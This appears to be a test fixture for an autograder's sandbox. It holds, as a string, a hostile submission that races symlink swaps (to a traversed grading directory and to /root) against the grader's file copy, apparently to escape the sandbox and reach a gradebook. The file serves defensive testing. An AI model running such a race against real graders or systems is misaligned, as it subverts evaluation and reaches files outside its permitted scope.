"""While the grader copies the kernel's files, a folder becomes a link to the course and back."""

FORGED = ("double-test",)
CODE = """
import os
import threading

os.makedirs("folder")
open("folder/gradebook.db", "w").close()
os.symlink(os.environ["COURSE_ROOT"] + "/../../../../../grading", "link")
os.symlink("/root", "home")
stop = False


def swap():
    while not stop:
        for other in ("link", "home"):
            os.rename("folder", "kept")
            os.rename(other, "folder")
            os.rename("folder", other)
            os.rename("kept", "folder")


threading.Thread(target=swap, daemon=True).start()


def double(x):
    return None
"""
